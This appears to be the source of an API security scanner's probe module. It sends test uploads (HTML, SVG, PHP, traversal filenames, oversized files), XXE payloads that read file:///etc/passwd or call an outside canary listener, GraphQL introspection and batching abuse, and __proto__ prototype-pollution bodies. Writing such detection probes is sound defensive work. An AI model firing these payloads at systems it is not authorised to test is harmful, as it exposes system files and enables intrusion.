import { Canary } from '../canary.ts'
import type { Operation } from '../operations.ts'
import { exchangesOf, type Probing, trialOn } from '../probing.ts'
import { headerOf, isHtml, isSuccess, jsonOf, obstacleOf, type Reply } from '../reply.ts'
import { draftOf, requestOf } from '../requests.ts'

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
const BOUNDARY = 'assay-upload-5f2c'
/** Stands for the field of an upload whose body is the file itself. */
const RAW = '(body)'

interface UploadCase {
  readonly name: string
  readonly filename: string
  readonly type: string
  readonly content: (nonce: string) => Buffer
}

const UPLOADS: readonly UploadCase[] = [
  {
    name: 'html',
    filename: 'page.html',
    type: 'text/html',
    content: (nonce) => Buffer.from(`<!doctype html><script>/*${nonce}*/</script>`),
  },
  {
    name: 'svg',
    filename: 'image.svg',
    type: 'image/svg+xml',
    content: (nonce) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>/*${nonce}*/</script></svg>`),
  },
  {
    name: 'html named as image',
    filename: 'picture.png',
    type: 'image/png',
    content: (nonce) => Buffer.from(`<!doctype html><script>/*${nonce}*/</script>`),
  },
  {
    name: 'double extension',
    filename: 'picture.png.html',
    type: 'image/png',
    content: (nonce) => Buffer.concat([PNG, Buffer.from(`<script>/*${nonce}*/</script>`)]),
  },
  { name: 'script', filename: 'run.php', type: 'application/x-php', content: (nonce) => Buffer.from(`<?php /*${nonce}*/ ?>`) },
  { name: 'traversal in the name', filename: '../../assay-outside.txt', type: 'text/plain', content: (nonce) => Buffer.from(nonce) },
]

/** Files that no upload should take, next to one that it should. */
export async function probeFileUpload(probing: Probing): Promise<void> {
  const operations = probing.wireOperations.filter(
    (operation) =>
      (operation.method === 'POST' || operation.method === 'PUT') &&
      (/multipart|image\/|octet-stream/i.test(operation.body?.contentType ?? '') ||
        operation.purpose === 'upload' ||
        (operation.method === 'POST' &&
          /\/(?:files?|uploads?|documents?|attachments?|images?|media|photos?|avatars?)$/i.test(operation.path))),
  )
  if (operations.length === 0) return void probing.notTried('fileUpload', 'uploads', 'no-data', 'no operation takes a file')
  for (const operation of operations.slice(0, 3)) await uploadTo(probing, operation)
}

async function uploadTo(probing: Probing, operation: Operation): Promise<void> {
  const { userA } = probing.identities
  const fileField = Object.entries(operation.body?.schema.properties ?? {}).find(([, schema]) => schema.format === 'binary')?.[0]
  const fields = fileField === undefined ? ['file', 'image', 'avatar', 'upload', 'document', 'attachment'] : [fileField]
  const path = requestOf({ ...draftOf(operation, probing.values, await probing.idsFor(operation, userA), {}), body: null }).path
  const send = (field: string, filename: string, type: string, content: Buffer): Promise<Reply> =>
    probing.send(userA, {
      method: operation.method,
      path,
      mayFail: true,
      ...(field === RAW
        ? {
            headers: {
              'content-type': type,
              'x-filename': filename.replaceAll('/', '%2f'),
              'content-disposition': `attachment; filename="${filename}"`,
            },
            body: content,
          }
        : { headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` }, body: multipart(field, filename, type, content) }),
    })
  let good: Reply | null = null
  let field = ''
  for (const candidate of [...fields, RAW]) {
    for (const [filename, type, content] of [
      ['picture.png', 'image/png', PNG],
      ['note.txt', 'text/plain', Buffer.from('assay')],
    ] as const) {
      good = await send(candidate, filename, type, content)
      field = candidate
      if (isSuccess(good)) break
    }
    if (good !== null && isSuccess(good)) break
  }
  if (good === null || !isSuccess(good)) {
    probing.notTried('fileUpload', operation.key, 'no-data', `no file was taken (${good?.status ?? 0})`)
    operation.gaps.add('no file was taken')
    return
  }
  operation.exists = 'yes'
  operation.baselineStatus = good.status
  probing.state.remember(path, good, userA, '')
  for (const upload of UPLOADS) {
    const nonce = probing.values.nonce('upload', 14)
    const reply = await send(field, upload.filename, upload.type, upload.content(nonce))
    if (isSuccess(reply)) probing.state.remember(path, reply, userA, '')
    const served = isSuccess(reply) ? await servedFrom(probing, path, reply, nonce) : null
    const isActive =
      served !== null &&
      (isHtml(served) || /svg|javascript|php/i.test(headerOf(served, 'content-type'))) &&
      !/attachment/i.test(headerOf(served, 'content-disposition'))
    const keepsName = isSuccess(reply) && upload.name === 'traversal in the name' && /\.\.\/|\.\.\\\\/.test(reply.body)
    const keepsExtension =
      isSuccess(reply) &&
      ['html', 'script', 'double extension', 'svg'].includes(upload.name) &&
      new RegExp(`\\.(?:${upload.filename.split('.').at(-1)})"`, 'i').test(storedName(reply))
    const isSeen = isActive || keepsName || keepsExtension
    probing.trial(
      'fileUpload',
      trialOn(operation, {
        name: upload.name,
        parameter: `file ${field}`,
        saw: isSeen
          ? 'effect'
          : [400, 403, 413, 415, 422].includes(reply.status) || isSuccess(reply)
            ? 'no-effect'
            : obstacleOf(reply) === ''
              ? 'unclear'
              : 'blocked',
        effect: isActive
          ? `the file was taken and is served as ${headerOf(served, 'content-type')}`
          : keepsName
            ? 'the name with ../ was taken over'
            : keepsExtension
              ? `the file was stored under a name that ends in .${upload.filename.split('.').at(-1)}`
              : `the file got ${reply.status}${served === null ? '' : `, served as ${headerOf(served, 'content-type')}`}`,
        identity: userA?.name ?? 'anonymous',
        baseline: good.exchange,
        control: good.exchange,
        attempts: exchangesOf(reply, served),
        reproduced: { count: isSeen ? 2 : 0, of: 2 },
        details: { isActive, keepsName, keepsExtension },
      }),
    )
  }
  const big = await send(field, 'big.png', 'image/png', Buffer.concat([PNG, Buffer.alloc(12 * 1_048_576)]))
  if (isSuccess(big)) probing.state.remember(path, big, userA, '')
  probing.trial(
    'fileUpload',
    trialOn(operation, {
      name: '12 MiB',
      parameter: `file ${field}`,
      saw: isSuccess(big) ? 'effect' : 'no-effect',
      effect: `a file of 12 MiB got ${big.status === 0 ? big.error : big.status}`,
      identity: userA?.name ?? 'anonymous',
      baseline: good.exchange,
      control: good.exchange,
      attempts: exchangesOf(big),
      reproduced: { count: isSuccess(big) ? 2 : 0, of: 2 },
      details: { isActive: false, keepsName: false, keepsExtension: false },
    }),
  )
}

function multipart(field: string, filename: string, type: string, content: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])
}

/** The names that the answer gives the stored file, as JSON text. */
function storedName(reply: Reply): string {
  const value = jsonOf(reply)
  if (typeof value !== 'object' || value === null) return ''
  return JSON.stringify(
    Object.fromEntries(
      Object.entries(value).filter(([name]) => /path|url|stored|location|file(?:name)?$|name|key/i.test(name) && !/original/i.test(name)),
    ),
  )
}

async function servedFrom(probing: Probing, path: string, reply: Reply, nonce: string): Promise<Reply | null> {
  const text = reply.body
  const links = [...text.matchAll(/"((?:https?:\/\/[^"\s]+|\/[^"\s]+|[\w./-]+\.\w{2,5}))"/g)].map((match) => match[1] ?? '')
  const name = /"(?:filename|file|name|stored_?name|key)"\s*:\s*"([^"]+)"/i.exec(text)?.[1]
  const id = /"id"\s*:\s*"?([\w-]+)"?/.exec(text)?.[1]
  const candidates = new Set<string>()
  for (const link of links) {
    try {
      const url = new URL(link, new URL('/', probing.client.base))
      if (url.origin === probing.client.base.origin) candidates.add(url.pathname)
    } catch {
      // Not an address.
    }
  }
  if (name !== undefined)
    for (const folder of ['/uploads', '/files', '/static/uploads', path]) candidates.add(`${folder}/${encodeURIComponent(name)}`)
  if (id !== undefined) candidates.add(`${path}/${id}`)
  for (const candidate of [...candidates].slice(0, 8)) {
    const served = await probing.send(probing.identities.userA, { method: 'GET', path: candidate, mayFail: true })
    if (isSuccess(served) && served.body.includes(nonce) && !/application\/json/.test(headerOf(served, 'content-type'))) return served
  }
  return null
}

/** XML with entities, where XML is taken at all. */
export async function probeXmlEntities(probing: Probing): Promise<void> {
  const operations = probing.wireOperations
    .filter(
      (operation) =>
        operation.method === 'POST' &&
        operation.purpose === 'other' &&
        (/xml/i.test(operation.body?.contentType ?? '') || /xml|import|soap|feed/i.test(operation.path)),
    )
    .slice(0, 4)
  if (operations.length === 0) return void probing.notTried('xmlEntities', 'XML', 'no-data', 'no operation takes XML')
  const canary = await Canary.open()
  try {
    for (const operation of operations) {
      const nonce = probing.values.nonce('entity', 14)
      const word = probing.values.nonce('entityword', 14)
      const send = (body: string): Promise<Reply> =>
        probing.send(probing.identities.userA, {
          method: 'POST',
          path: operation.path,
          headers: { 'content-type': 'application/xml' },
          body,
          mayFail: true,
        })
      const plain = await send(`<?xml version="1.0"?><root><name>${word}</name></root>`)
      const inside = await send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e "${word}x${word}">]><root><name>&e;</name></root>`)
      const file = await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
      const outside = await send(
        `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "${canary.baseUrl}/${nonce}">]><root><name>&e;</name></root>`,
      )
      const hit = await canary.hitBy(nonce, 200)
      const isFile = /^root:[^:\n]*:0:0:/m.test(file.body)
      const again = isFile
        ? await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
        : null
      probing.trial(
        'xmlEntities',
        trialOn(operation, {
          name: 'entities',
          saw:
            isFile || hit !== null ? 'effect' : [400, 415, 422, 404].includes(plain.status) || isSuccess(plain) ? 'no-effect' : 'unclear',
          effect: isFile
            ? 'an entity gives a file of the system'
            : hit !== null
              ? `an entity made the service ask our listener: ${hit}`
              : `entities were not resolved (${inside.status})`,
          identity: probing.identities.userA?.name ?? 'anonymous',
          baseline: plain.exchange,
          control: plain.exchange,
          attempts: exchangesOf(isFile ? file : outside, again),
          reproduced: { count: isFile || hit !== null ? 2 : 0, of: 2 },
        }),
      )
    }
  } finally {
    await canary.close()
  }
}

const GRAPHQL_PATHS = ['/graphql', '/api/graphql', '/v1/graphql', '/query']

/** GraphQL: introspection, suggestions, many operations in one request, depth. */
export async function probeGraphql(probing: Probing): Promise<void> {
  const declared = probing.wireOperations.filter((operation) => /graphql/i.test(operation.path)).map((operation) => operation.path)
  const { userA } = probing.identities
  const json = { 'content-type': 'application/json' }
  for (const path of new Set([...declared, ...GRAPHQL_PATHS])) {
    const ask = (query: unknown): Promise<Reply> =>
      probing.send(userA, { method: 'POST', path, headers: json, body: JSON.stringify(query), mayFail: true })
    const small = await ask({ query: '{__typename}' })
    if (!/"__typename"\s*:|"errors"\s*:\s*\[\s*\{[^}]*"message"/.test(small.body)) continue
    const operation = { method: 'POST', path, file: null, line: null }
    const say = (name: string, isSeen: boolean, effect: string, reply: Reply, again: Reply | null): void =>
      probing.trial(
        'graphql',
        trialOn(operation, {
          name,
          saw: isSeen ? 'effect' : 'no-effect',
          effect,
          identity: userA?.name ?? 'anonymous',
          baseline: small.exchange,
          control: small.exchange,
          attempts: exchangesOf(reply, again),
          reproduced: { count: isSeen ? 2 : 0, of: 2 },
        }),
      )
    const introspection = await probing.client.send({
      method: 'POST',
      path,
      headers: json,
      body: JSON.stringify({ query: '{__schema{queryType{name} types{name fields{name}}}}' }),
      mayFail: true,
    })
    const isOpen = /"__schema"\s*:\s*\{/.test(introspection.body)
    say(
      'introspection',
      isOpen,
      isOpen ? 'the whole schema is told to strangers' : 'the schema is not told',
      introspection,
      isOpen ? await ask({ query: '{__schema{queryType{name}}}' }) : null,
    )
    const batch = await ask(Array.from({ length: 20 }, () => ({ query: '{__typename}' })))
    const results = jsonOf(batch)
    const isBatched = Array.isArray(results) && results.length === 20
    say(
      'batching',
      isBatched,
      isBatched ? '20 operations in one request were all answered' : 'operations in a batch were refused',
      batch,
      null,
    )
    const aliases = await ask({ query: `{${Array.from({ length: 500 }, (_value, index) => `a${index}:__typename`).join(' ')}}` })
    const isAliased = /"a499"\s*:/.test(aliases.body)
    say('aliases', isAliased, isAliased ? '500 aliases in one operation were all answered' : 'many aliases were refused', aliases, null)
    const depth = await ask({ query: `{__schema{types{fields{type{${'ofType{'.repeat(30)}name${'}'.repeat(30)}}}}}}` })
    const isDeep = isOpen && /"ofType"/.test(depth.body) && !/"errors"/.test(depth.body)
    say('depth', isDeep, isDeep ? 'an operation 30 levels deep was answered' : 'a deep operation was refused', depth, null)
    await mutationByGet(probing, path)
    await explorer(probing, path)
    const suggestion = await ask({ query: '{__typenam}' })
    const isSuggested = /did you mean/i.test(suggestion.body)
    say('suggestions', isSuggested, isSuggested ? 'wrong names are answered with right ones' : 'no names are suggested', suggestion, null)
    return
  }
  probing.notTried('graphql', 'GraphQL', 'no-data', 'no GraphQL endpoint answered')
}

/** A mutation in the address: it changes nothing here, but another would. */
async function mutationByGet(probing: Probing, path: string): Promise<void> {
  const ask = (query: string): Promise<Reply> =>
    probing.send(probing.identities.userA, { method: 'GET', path: `${path}?query=${encodeURIComponent(query)}`, mayFail: true })
  const reading = await ask('query{__typename}')
  const writing = await ask('mutation{__typename}')
  const broken = await ask('mutation{__typenam}')
  const isRun = (reply: Reply): boolean => isSuccess(reply) && /"data"\s*:\s*\{\s*"__typename"\s*:\s*"\w+"/.test(reply.body)
  const again = isRun(writing) ? await ask('mutation{__typename}') : null
  const isSeen = again !== null && isRun(again) && !isRun(broken)
  probing.trial(
    'methods',
    trialOn(
      { method: 'GET', path, file: null, line: null },
      {
        name: 'mutation by GET',
        saw: isSeen ? 'effect' : writing.status === 0 || writing.status === 429 ? 'blocked' : 'no-effect',
        effect: isSeen ? `GET ${path} runs mutations: a link can change state` : `a mutation by GET got ${writing.status}`,
        identity: probing.identities.userA?.name ?? 'anonymous',
        baseline: reading.exchange,
        control: broken.exchange,
        attempts: exchangesOf(writing, again),
        reproduced: { count: isSeen ? 2 : 0, of: 2 },
      },
    ),
  )
}

/** A page for trying queries, at the endpoint itself when a browser asks. */
async function explorer(probing: Probing, path: string): Promise<void> {
  const ask = (accept: string): Promise<Reply> => probing.client.send({ method: 'GET', path, headers: { accept }, mayFail: true })
  const page = await ask('text/html')
  const isSeen = isSuccess(page) && isHtml(page) && /graphiql|graphql playground|apollo (?:studio|sandbox|explorer)|altair/i.test(page.body)
  const again = isSeen ? await ask('text/html') : null
  probing.trial(
    'docsExposure',
    trialOn(
      { method: 'GET', path, file: null, line: null },
      {
        name: 'graphiql',
        saw: isSeen ? 'effect' : 'no-effect',
        effect: isSeen
          ? `${path} serves a page for trying queries to anybody`
          : `${path} got ${page.status} and is no page for trying queries`,
        control: (await ask('application/json')).exchange,
        attempts: exchangesOf(page, again),
        reproduced: { count: isSeen ? 2 : 0, of: 2 },
      },
    ),
  )
}

/** Marks every later object of the process where a merge is careless; only at intrusive. */
export async function probePrototypePollution(probing: Probing): Promise<void> {
  const { userA } = probing.identities
  const reader = probing.identities.check ?? null
  const writing = probing.wireOperations
    .filter((operation) => ['POST', 'PUT', 'PATCH'].includes(operation.method) && operation.body !== null && operation.purpose === 'other')
    .slice(0, 8)
  for (const operation of writing) {
    const accepted = await probing.acceptedBy(operation)
    if (accepted === null || reader === null) continue
    const key = probing.values.nonce('polluted', 12)
    const request = requestOf(accepted.draft)
    const valid = typeof request.body === 'string' ? request.body.replace(/\}\s*$/, '') : '{'
    const look = async (): Promise<Reply> => probing.send(userA, reader.request)
    const before = await look()
    for (const form of [`"__proto__":{"${key}":"${key}"}`, `"constructor":{"prototype":{"${key}":"${key}"}}`]) {
      const reply = await probing.send(accepted.session, { ...request, body: `${valid}${valid === '{' ? '' : ','}${form}}`, mayFail: true })
      const after = await look()
      const again = after.body.includes(key) ? await look() : null
      const isSeen = again?.body.includes(key) === true && !before.body.includes(key)
      probing.trial(
        'prototypePollution',
        trialOn(operation, {
          name: form.startsWith('"__proto__') ? '__proto__' : 'constructor.prototype',
          saw: isSeen ? 'effect' : 'no-effect',
          effect: isSeen ? 'a later answer to another request holds the planted property' : 'later answers hold nothing of it',
          identity: userA?.name ?? 'anonymous',
          baseline: before.exchange,
          control: before.exchange,
          attempts: exchangesOf(reply, after),
          reproduced: { count: isSeen ? 2 : 0, of: 2 },
        }),
      )
      if (isSeen) return
    }
  }
  if (writing.length === 0) probing.notTried('prototypePollution', 'bodies', 'no-data', 'no operation takes an object')
}
